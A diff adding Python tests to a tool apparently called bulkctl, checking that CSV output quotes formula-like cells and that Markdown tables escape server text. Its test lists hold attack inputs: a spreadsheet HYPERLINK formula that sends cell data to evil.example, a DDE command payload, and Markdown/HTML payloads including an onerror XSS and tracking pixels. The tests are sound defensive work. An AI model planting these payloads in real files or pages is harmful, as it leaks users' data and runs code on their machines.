@@ -135,6 +135,8 @@ def test_field_names_are_case_insensitive_and_keep_order() -> None:
 
 def test_times() -> None:
     assert iso_utc(0) == "1970-01-01T00:00:00.000Z"
+    assert iso_utc(-1) == "1969-12-31T23:59:59.999Z"  # a millisecond before, not after
+    assert iso_utc(-62_135_510_400_000) == "0001-01-02T00:00:00.000Z"  # four digits of year
     assert iso_utc(10**20) is None
     assert iso_utc("soon") is None
     assert human_duration(3725) == "1h 02m"
@@ -218,8 +220,18 @@ def test_plain_and_csv_round_trip_any_text(recs: list[dict[str, Any]]) -> None:
     sheet = list(
         csv.reader(io.StringIO(rendered("csv", recs, fields=fields, header=False), newline=""))
     )
-    # csv keeps tab, LF and CR (quoted); the other controls come back as their \xHH text
-    assert sheet == [[safe_text(v, keep="\t\n\r") for v in row] for row in want]
+    # csv keeps tab, LF and CR (quoted); the other controls come back as their \xHH text, and
+    # a cell that starts like a formula with a ' before it
+    formula = [[("'" + v if v[:1] in "=+-@\t\r" and v else v) for v in row] for row in want]
+    assert sheet == [[safe_text(v, keep="\t\n\r") for v in row] for row in formula]
+
+
+def test_plain_shows_bidi_and_zero_widths_as_code_points_and_reads_them_back() -> None:
+    text = "10\u202e.00\u200b\u2028\ufeff \\u{202e} \\u{zz}"
+    fields = pick_fields("operation", BULK_ALL_FIELDS, BULK_FIELDS)
+    plain = rendered("plain", [{"operation": text}], fields=fields, header=False)
+    assert plain == "10\\u{202e}.00\\u{200b}\\u{2028}\\u{feff} \\\\u{202e} \\\\u{zz}\n"
+    assert unescape_plain(plain[:-1]) == text
 
 
 def test_json_written_element_by_element_is_the_same_document() -> None:
@@ -234,3 +246,144 @@ def test_json_written_element_by_element_is_the_same_document() -> None:
     for case in (values, values[:1]):
         document = "[\n" + ",\n".join(_json_element(v) for v in case) + "\n]"
         assert document == json_text(case, indent=2)
+
+
+# -- formats read by other programs: spreadsheets and Markdown renderers ------------------------
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS, ids=["=", "+", "-", "@", "tab", "CR"])
+def test_csv_cells_of_server_text_that_start_a_formula_get_a_quote(text: str) -> None:
+    record = {
+        "bulkId": "1100000000295353",
+        "status": text,
+        "operation": text,
+        "submittedItemsCount": -5,  # a number: never changed, whatever its sign
+        "executionStart": -1000,
+    }
+    fields = pick_fields(
+        "bulkId,status,operation,submittedItemsCount,executionStart", BULK_ALL_FIELDS, BULK_FIELDS
+    )
+    out = io.StringIO()
+    render([record], RenderOptions(fmt="csv", fields=fields), out)
+    header, row = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    assert header == [f.name for f in fields]
+    assert row == ["1100000000295353", "'" + text, "'" + text, "-5", "1969-12-31T23:59:59.000Z"]
+
+
+@pytest.mark.parametrize("text", ["/transfers", "a=b", " =1", "ON_FAILURE_STOP", "", "'quoted"])
+def test_csv_leaves_other_text_as_it_is(text: str) -> None:
+    out = io.StringIO()
+    fields = pick_fields("operation", BULK_ALL_FIELDS, BULK_FIELDS)
+    render([{"operation": text}], RenderOptions(fmt="csv", fields=fields, header=False), out)
+    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [[text]]
+
+
+MARKDOWN_ATTACKS = [
+    "[APPROVE HERE](https://evil.example/approve)",
+    "![pixel](https://evil.example/p.png)",
+    '<img src="https://evil.example/p.png" onerror=alert(1)>',
+    "<a href='https://evil.example'>ok</a>",
+    "<https://evil.example/auto>",
+    "see https://evil.example/bare or www.evil.example or ceo@evil.example",
+    "**urgent** _now_ *really* ~~refund~~ `code`",
+    "a | b || c",
+    "&lt;script&gt; &#x3C;b&#x3E; &amp;",
+    "[ref][1] and [1]: https://evil.example",
+    "\\[escaped\\] \\",
+    "$x^2$ :shipit: @octocat #1",
+]
+BLOCK_ATTACKS = ["# heading", "> quoted", "- item", "1. item", "1) item", "---", "    code", "=="]
+# what Markdown would make of server text if it were not escaped
+ACTIVE = {
+    "link_open",
+    "image",
+    "html_inline",
+    "html_block",
+    "em_open",
+    "strong_open",
+    "s_open",
+    "code_inline",
+    "code_block",
+    "heading_open",
+    "blockquote_open",
+    "bullet_list_open",
+    "ordered_list_open",
+    "hr",
+    "math_inline",
+}
+
+
+def markdown_tokens(source: str) -> list[Any]:
+    """Every token (inline ones too) that a GitHub-like Markdown renderer reads in
+    ``source``: tables, strikethrough, raw HTML and bare links (linkify) all on."""
+    from markdown_it import MarkdownIt
+
+    flat = []
+    for token in MarkdownIt("gfm-like").parse(source):
+        flat.append(token)
+        flat.extend(token.children or [])
+    return flat
+
+
+def read_as_text(tokens: list[Any]) -> str:
+    """The text a reader sees; our own ``<br>`` reads as a newline."""
+    return "".join(
+        "\n" if t.type == "html_inline" and t.content == "<br>" else t.content
+        for t in tokens
+        if t.type in ("text", "html_inline")
+    )
+
+
+def active(tokens: list[Any]) -> list[str]:
+    return [
+        t.type
+        for t in tokens
+        if t.type in ACTIVE and not (t.type == "html_inline" and t.content == "<br>")
+    ]
+
+
+@pytest.mark.parametrize("text", [*MARKDOWN_ATTACKS, "two\nlines"])
+def test_markdown_tables_render_server_text_as_text(text: str) -> None:
+    fields = pick_fields("bulkId,operation,submittedItemsCount", BULK_ALL_FIELDS, BULK_FIELDS)
+    records = [{"bulkId": "5", "operation": text, "submittedItemsCount": -7}]
+    out = io.StringIO()
+    render(records, RenderOptions(fmt="markdown", fields=fields), out)
+    tokens = markdown_tokens(out.getvalue())
+    assert active(tokens) == []
+    cells = [t for t in tokens if t.type in ("th_open", "td_open")]
+    assert len(cells) == 6, out.getvalue()  # no cell added or lost: no table break
+    inline = [t for t in tokens if t.type == "inline"]
+    assert [read_as_text(t.children) for t in inline[3:]] == ["5", text, "-7"]
+
+
+@pytest.mark.parametrize("text", [*MARKDOWN_ATTACKS, *BLOCK_ATTACKS])
+def test_escaped_markdown_is_text_on_a_line_of_its_own_too(text: str) -> None:
+    from bulkctl.render import escape_markdown
+
+    tokens = markdown_tokens(escape_markdown(text) + "\n")
+    assert active(tokens) == []
+    assert [t.type for t in tokens if t.nesting == 1] == ["paragraph_open"]
+    assert read_as_text(tokens) == text
+
+
+@given(st.text(alphabet=st.characters(codec="ascii"), max_size=40))
+@settings(max_examples=300, deadline=None)
+def test_any_ascii_server_text_renders_as_itself(text: str) -> None:
+    from bulkctl.render import escape_markdown
+
+    tokens = markdown_tokens("| a |\n| --- |\n| " + escape_markdown(text) + " |\n")
+    assert active(tokens) == []
+    cells = [t for t in tokens if t.type == "inline"]
+    assert len(cells) == 2
+    # newlines (CR, LF, CRLF) read as one newline; other controls as their \xHH text
+    lines = text.replace("\r\n", "\n").replace("\r", "\n")
+    assert read_as_text(cells[1].children) == safe_text(lines, keep="\n")
